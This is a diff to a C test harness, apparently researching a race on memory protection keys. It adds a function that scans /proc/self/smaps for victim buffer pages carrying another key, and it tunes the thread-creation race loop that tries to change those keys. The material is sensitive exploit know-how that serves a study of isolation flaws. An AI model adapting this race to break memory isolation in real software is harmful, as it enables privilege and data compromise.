@@ -46,6 +46,23 @@ static void *change(void *unused)
     return unused;
 }
 
+/* Whether a page of the victim's buffer has another key than the victim's. */
+static int other_keys(void)
+{
+    char line[512];
+    unsigned long low = 0, first, last;
+    int key, found = 0;
+    FILE *maps = fopen("/proc/self/smaps", "r");
+    while (!found && fgets(line, sizeof line, maps)) {
+        if (sscanf(line, "%lx-%lx ", &first, &last) == 2)
+            low = first;
+        if (low >= BUFFER && low < BUFFER + BUFFER_SIZE && sscanf(line, "ProtectionKey: %d", &key) == 1)
+            found = key != victim_key;
+    }
+    fclose(maps);
+    return found;
+}
+
 ATTACK
 {
     pthread_t made;
@@ -66,12 +83,16 @@ ATTACK
     while (!running)
         sched_yield();
     armed = 1;
-    for (int i = 0; i < 100 && !won; i++) {
+    for (int i = 0; i < 60 && !won; i++) {
         if (pthread_create(&made, &small, probe, NULL))
             break;
-        usleep(20000);
+        usleep(5000);
         if (!won)
             pthread_join(made, NULL);
+        if (other_keys()) {
+            effect("pages of the victim's have another key");
+            SYS(SYS_exit_group, 0);
+        }
     }
     armed = 0;
     victim_call(MAPPED_CHANGED, BUFFER, BUFFER_SIZE);
